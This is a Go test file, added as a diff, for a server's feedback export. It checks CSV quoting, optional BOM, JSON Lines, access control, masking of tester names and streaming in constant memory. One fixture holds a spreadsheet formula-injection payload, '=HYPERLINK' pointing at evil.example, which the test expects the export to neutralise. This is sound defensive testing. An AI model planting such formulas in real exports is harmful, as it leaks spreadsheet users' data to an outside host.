@@ -1,0 +1,391 @@
+package graph_test
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"crypto/rand"
+	"encoding/binary"
+	"encoding/csv"
+	"encoding/json"
+	"io"
+	"net/http"
+	"os"
+	"runtime"
+	"runtime/debug"
+	"slices"
+	"strconv"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/protoloop/protoloop/ent/schema/gid"
+	"github.com/protoloop/protoloop/server/servertest"
+)
+
+// getExport GETs an export path with token ("" for none) and returns the
+// response, whose body the caller closes.
+func getExport(t *testing.T, s *servertest.Server, token, path string) *http.Response {
+	t.Helper()
+	req, err := http.NewRequest(http.MethodGet, s.URL+path, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if token != "" {
+		req.Header.Set("Authorization", "Bearer "+token)
+	}
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { resp.Body.Close() })
+	return resp
+}
+
+// exportCSV GETs a CSV export that must succeed and returns its records,
+// header first.
+func exportCSV(t *testing.T, s *servertest.Server, token, path string) [][]string {
+	t.Helper()
+	resp := getExport(t, s, token, path)
+	body, err := io.ReadAll(resp.Body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("GET %s: %d %s", path, resp.StatusCode, body)
+	}
+	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF")))).ReadAll()
+	if err != nil {
+		t.Fatalf("GET %s: not CSV: %v\n%s", path, err, body)
+	}
+	return records
+}
+
+func TestExportWritesSpreadsheetReadyFiles(t *testing.T) {
+	servertest.Run(t, func(t *testing.T, s *servertest.Server) {
+		loop := s.NewLoop(t)
+		owner, slug := loop.Owner.Token, loop.Workspace.Slug
+		tricky := "Zoë said: \"the form\", then, on a new line:\nit's =SUM(A1) broken; ümlaut ✓"
+		fb := s.LeaveFeedback(t, owner, loop.Iteration.ID, vars{"kind": "BUG", "body": tricky, "rating": 2, "minutesSavedPerDay": 15})
+		plain := s.LeaveFeedback(t, owner, loop.Iteration.ID, nil)
+		formula := s.LeaveFeedback(t, owner, loop.Iteration.ID, vars{"body": "=HYPERLINK(\"http://evil.example/?\"&A1)"})
+		s.Do(t, owner, `mutation($id: ID!) { vote(feedbackID: $id) { id } }`, vars{"id": fb}).RequireOK(t)
+		next := s.NewPublishedIteration(t, owner, loop.Prototype.ID)
+		s.Do(t, owner, `mutation($ids: [ID!]!, $it: ID!) { markAddressed(feedbackIDs: $ids, iterationID: $it) { id } }`,
+			vars{"ids": []string{fb}, "it": next.ID}).RequireOK(t)
+
+		t.Run("CSV quotes what needs quoting and keeps every column", func(t *testing.T) {
+			records := exportCSV(t, s, owner, "/export/"+slug+"/feedback.csv")
+			want := []string{"id", "prototype", "iteration", "kind", "status", "rating", "minutes_saved_per_day",
+				"author", "votes", "addressed_in", "created_at", "body"}
+			if !slices.Equal(records[0], want) {
+				t.Fatalf("header %v, want %v", records[0], want)
+			}
+			if len(records) != 4 {
+				t.Fatalf("%d records, want a header and 3 rows", len(records))
+			}
+			byID := map[string][]string{}
+			for _, r := range records[1:] {
+				byID[r[0]] = r
+			}
+			row := byID[fb]
+			got := []string{row[0], row[1], row[2], row[3], row[4], row[5], row[6], row[7], row[8], row[9], row[11]}
+			wantRow := []string{fb, loop.Prototype.Slug, "1", "BUG", "ADDRESSED", "2", "15", loop.Owner.Name, "1", "2", tricky}
+			if !slices.Equal(got, wantRow) {
+				t.Errorf("row %q,\nwant %q", got, wantRow)
+			}
+			if _, err := time.Parse(time.RFC3339, row[10]); err != nil {
+				t.Errorf("created_at %q: %v", row[10], err)
+			}
+			if got := byID[formula][11]; got != `'=HYPERLINK("http://evil.example/?"&A1)` {
+				t.Errorf("a body like a formula is %q, want it behind an apostrophe", got)
+			}
+		})
+		t.Run("starts with a BOM only when asked", func(t *testing.T) {
+			for path, bom := range map[string]bool{
+				"/export/" + slug + "/feedback.csv":       false,
+				"/export/" + slug + "/feedback.csv?bom=1": true,
+			} {
+				resp := getExport(t, s, owner, path)
+				body, _ := io.ReadAll(resp.Body)
+				if got := bytes.HasPrefix(body, []byte("\xEF\xBB\xBF")); got != bom {
+					t.Errorf("%s: BOM %v, want %v", path, got, bom)
+				}
+				if ct := resp.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
+					t.Errorf("%s: Content-Type %q", path, ct)
+				}
+			}
+		})
+		t.Run("JSON Lines has one object per feedback", func(t *testing.T) {
+			resp := getExport(t, s, owner, "/export/"+loop.Workspace.ID+"/feedback.jsonl")
+			if resp.StatusCode != http.StatusOK {
+				t.Fatalf("status %d", resp.StatusCode)
+			}
+			sc := bufio.NewScanner(resp.Body)
+			var ids []string
+			for sc.Scan() {
+				var row struct {
+					ID          string
+					Body        string
+					Rating      *int
+					AddressedIn *int `json:"addressed_in"`
+				}
+				if err := json.Unmarshal(sc.Bytes(), &row); err != nil {
+					t.Fatalf("line %q: %v", sc.Text(), err)
+				}
+				ids = append(ids, row.ID)
+				if row.ID == fb && (row.Body != tricky || row.Rating == nil || *row.Rating != 2 || row.AddressedIn == nil || *row.AddressedIn != 2) {
+					t.Errorf("row %+v", row)
+				}
+				if row.ID == formula && !strings.HasPrefix(row.Body, "=") {
+					t.Errorf("JSON changed a body like a formula to %q", row.Body)
+				}
+				if row.ID == plain && (row.Rating != nil || row.AddressedIn != nil) {
+					t.Errorf("row %+v: want null rating and addressed_in", row)
+				}
+			}
+			if slices.Sort(ids); !slices.Equal(ids, slices.Sorted(slices.Values([]string{fb, plain, formula}))) {
+				t.Errorf("ids %v, want %s, %s and %s", ids, fb, plain, formula)
+			}
+		})
+	})
+}
+
+func TestExportIsAuthorizedLikeTheAPI(t *testing.T) {
+	servertest.Run(t, func(t *testing.T, s *servertest.Server) {
+		w := newTesterWorld(t, s)
+		slug := w.loop.Workspace.Slug
+		path := "/export/" + slug + "/feedback.csv"
+		onQ := s.LeaveFeedback(t, w.loop.Owner.Token, w.qIteration, nil)
+
+		for _, tc := range []struct {
+			name, token, path string
+			status            int
+		}{
+			{"refuses a caller without a token", "", path, http.StatusUnauthorized},
+			{"refuses an invalid token", "plt_nonsense", path, http.StatusUnauthorized},
+			{"hides a workspace from a non-member", w.other.Owner.Token, path, http.StatusNotFound},
+			{"does not know a workspace that does not exist", w.loop.Owner.Token, "/export/no-such-place/feedback.csv", http.StatusNotFound},
+			{"serves only feedback.csv and feedback.jsonl", w.loop.Owner.Token, "/export/" + slug + "/feedback.xlsx", http.StatusNotFound},
+			{"refuses a bom that is neither 1 nor 0", w.loop.Owner.Token, path + "?bom=yes", http.StatusBadRequest},
+		} {
+			t.Run(tc.name, func(t *testing.T) {
+				resp := getExport(t, s, tc.token, tc.path)
+				body, _ := io.ReadAll(resp.Body)
+				if resp.StatusCode != tc.status || !bytes.Contains(body, []byte(`"code"`)) {
+					t.Errorf("status %d, want %d, with a coded error: %s", resp.StatusCode, tc.status, body)
+				}
+			})
+		}
+
+		t.Run("gives a tester its prototype's feedback, other testers masked", func(t *testing.T) {
+			records := exportCSV(t, s, w.ada.token, path)
+			authors := map[string]string{}
+			for _, r := range records[1:] {
+				authors[r[0]] = r[7]
+				if r[1] != w.loop.Prototype.Slug {
+					t.Errorf("row of prototype %s", r[1])
+				}
+			}
+			if _, ok := authors[onQ]; ok {
+				t.Errorf("the tester got feedback on another prototype")
+			}
+			if len(authors) != 4 {
+				t.Errorf("%d rows, want the owner's and three testers' feedback", len(authors))
+			}
+			if authors[w.ada.feedback] != w.ada.name {
+				t.Errorf("its own feedback by %q, want %q", authors[w.ada.feedback], w.ada.name)
+			}
+			if a := authors[w.bo.feedback]; !isMasked(a) {
+				t.Errorf("another tester's feedback by %q, want a masked name", a)
+			}
+			if a := authors[w.ownerFeedback]; a != w.loop.Owner.Name {
+				t.Errorf("the owner's feedback by %q, want %q", a, w.loop.Owner.Name)
+			}
+		})
+		t.Run("gives a member every prototype's feedback with names", func(t *testing.T) {
+			records := exportCSV(t, s, w.viewer.Token, path)
+			if len(records) != 6 {
+				t.Errorf("%d records, want a header and 5 rows", len(records))
+			}
+			for _, r := range records[1:] {
+				if isMasked(r[7]) {
+					t.Errorf("a member got a masked name: %q", r[7])
+				}
+			}
+		})
+	})
+}
+
+// envExportRows sets how many rows TestExportStreamsInConstantMemory
+// exports; CI exports fewer than the 100,000 the issue asks to prove.
+const envExportRows = "PROTOLOOP_EXPORT_ROWS"
+
+func TestExportStreamsInConstantMemory(t *testing.T) {
+	if testing.Short() {
+		t.Skip("inserts and exports tens of thousands of rows")
+	}
+	big := 20_000
+	if v := os.Getenv(envExportRows); v != "" {
+		n, err := strconv.Atoi(v)
+		if err != nil || n < 2000 {
+			t.Fatalf("%s=%q: want a number of at least 2000", envExportRows, v)
+		}
+		big = n
+	}
+	small := big / 10
+	// The two backends run one after the other here: heap samples are
+	// the process's, and two exports at once would count each other's.
+	for _, b := range servertest.Backends() {
+		t.Run(string(b), func(t *testing.T) {
+			s := servertest.Start(t, b)
+			loop := s.NewLoop(t)
+			owner := loop.Owner.Token
+			probe := s.LeaveFeedback(t, owner, loop.Iteration.ID, nil)
+			var fb struct {
+				Node struct{ Author struct{ ID string } }
+			}
+			decode(t, s, owner, `query($id: ID!) { node(id: $id) { ... on Feedback { author { id } } } }`, vars{"id": probe}, &fb)
+
+			insertFeedback(t, s, loop, fb.Node.Author.ID, small-1)
+			smallPeak, smallRows, smallBytes := measureExport(t, s, owner, loop.Workspace.Slug)
+			began := time.Now()
+			insertFeedback(t, s, loop, fb.Node.Author.ID, big-small)
+			inserted := time.Since(began)
+			bigPeak, bigRows, bigBytes := measureExport(t, s, owner, loop.Workspace.Slug)
+			t.Logf("%s: inserted %d rows in %v, exported %d in %v", b, big-small, inserted.Round(time.Millisecond), big, (time.Since(began) - inserted).Round(time.Millisecond))
+
+			if smallRows != small || bigRows != big {
+				t.Fatalf("exported %d and %d rows, want %d and %d", smallRows, bigRows, small, big)
+			}
+			t.Logf("%s: %d rows (%.1f MiB) with the heap at most %.1f MiB above its start; %d rows (%.1f MiB): %.1f MiB",
+				b, small, mib(smallBytes), mib(smallPeak), big, mib(bigBytes), mib(bigPeak))
+			// Building the file in memory would take at least its size;
+			// streaming takes about the same for ten times the rows.
+			if limit := smallPeak + 8<<20; bigPeak > limit || bigPeak > bigBytes/2 {
+				t.Errorf("exporting %d rows grew the heap by %.1f MiB, %d rows by %.1f MiB: memory grows with the rows",
+					small, mib(smallPeak), big, mib(bigPeak))
+			}
+		})
+	}
+}
+
+func mib(n uint64) float64 { return float64(n) / (1 << 20) }
+
+// insertFeedback adds n rows of feedback by author to the loop's iteration
+// in one statement: the API would take minutes for 100,000.
+func insertFeedback(t *testing.T, s *servertest.Server, loop servertest.Loop, author string, n int) {
+	t.Helper()
+	ids := make([]int64, 4)
+	for i, s := range []string{loop.Workspace.ID, author, loop.Iteration.ID, loop.Prototype.ID} {
+		id, err := gid.Parse(s)
+		if err != nil {
+			t.Fatal(err)
+		}
+		ids[i] = int64(id)
+	}
+	var r [8]byte
+	if _, err := rand.Read(r[:]); err != nil {
+		t.Fatal(err)
+	}
+	// IDs from a random base, far enough from the next test's.
+	base := int64(gid.Feedback)<<56 | int64(binary.LittleEndian.Uint64(r[:])&(1<<55-1))
+	padding := "repeat('x', 600)"
+	if s.Backend == servertest.SQLite {
+		padding = "printf('%.600c', 'x')"
+	}
+	body := `'Row ' || g || ': the "export", with a comma, spans
+two lines, and a long tail, so that streaming and buffering are far apart: ' || ` + padding
+	columns := `id, created_at, updated_at, kind, body, status, vote_count, workspace_id, author_id, iteration_id, prototype_id, rating, minutes_saved_per_day`
+	values := `%BASE% + g, %NOW%, %NOW%, 'IDEA', ` + body + `, 'OPEN', g % 7, %WS%, %AUTHOR%, %IT%, %PROTO%, (g % 5) + 1, g % 60`
+	var query string
+	args := []any{base, time.Now().UTC(), ids[0], ids[1], ids[2], ids[3], n}
+	if s.Backend == servertest.Postgres {
+		query = `INSERT INTO feedbacks (` + columns + `) SELECT ` + values + ` FROM generate_series(1, $7) AS g`
+		query = strings.NewReplacer("%BASE%", "$1::bigint", "%NOW%", "$2::timestamptz", "%WS%", "$3::bigint", "%AUTHOR%", "$4::bigint",
+			"%IT%", "$5::bigint", "%PROTO%", "$6::bigint").Replace(query)
+	} else {
+		query = `WITH RECURSIVE seq(g) AS (SELECT 1 UNION ALL SELECT g + 1 FROM seq WHERE g < ?7) INSERT INTO feedbacks (` + columns + `) SELECT ` + values + ` FROM seq`
+		query = strings.NewReplacer("%BASE%", "?1", "%NOW%", "?2", "%WS%", "?3", "%AUTHOR%", "?4",
+			"%IT%", "?5", "%PROTO%", "?6").Replace(query)
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	if _, err := s.DB.SQL.ExecContext(ctx, query, args...); err != nil {
+		t.Fatalf("insert %d rows of feedback: %v", n, err)
+	}
+}
+
+// measureExport streams a CSV export, reading it as a client would, while
+// sampling the heap, and returns how far the heap rose above where it
+// started, the rows and the bytes.
+func measureExport(t *testing.T, s *servertest.Server, token, slug string) (peak uint64, rows int, size uint64) {
+	t.Helper()
+	// Collect garbage early, so that the heap in use is about what is
+	// live: at the default GOGC it may grow to twice that between
+	// collections, whatever the export keeps.
+	defer debug.SetGCPercent(debug.SetGCPercent(5))
+	runtime.GC()
+	var start runtime.MemStats
+	runtime.ReadMemStats(&start)
+	var high atomic.Uint64
+	done := make(chan struct{})
+	var wg sync.WaitGroup
+	wg.Add(1)
+	go func() {
+		defer wg.Done()
+		tick := time.NewTicker(5 * time.Millisecond)
+		defer tick.Stop()
+		for {
+			var m runtime.MemStats
+			runtime.ReadMemStats(&m)
+			if m.HeapInuse > high.Load() {
+				high.Store(m.HeapInuse)
+			}
+			select {
+			case <-done:
+				return
+			case <-tick.C:
+			}
+		}
+	}()
+	resp := getExport(t, s, token, "/export/"+slug+"/feedback.csv")
+	counted := &countingReader{r: resp.Body}
+	r := csv.NewReader(counted)
+	r.ReuseRecord = true
+	for {
+		rec, err := r.Read()
+		if err == io.EOF {
+			break
+		}
+		if err != nil {
+			t.Fatalf("read export: %v", err)
+		}
+		if len(rec) != 12 {
+			t.Fatalf("a record of %d fields", len(rec))
+		}
+		rows++
+	}
+	close(done)
+	wg.Wait()
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("export: status %d", resp.StatusCode)
+	}
+	if h := high.Load(); h > start.HeapInuse {
+		peak = h - start.HeapInuse
+	}
+	return peak, rows - 1, counted.n
+}
+
+type countingReader struct {
+	r io.Reader
+	n uint64
+}
+
+func (c *countingReader) Read(p []byte) (int, error) {
+	n, err := c.r.Read(p)
+	c.n += uint64(n)
+	return n, err
+}
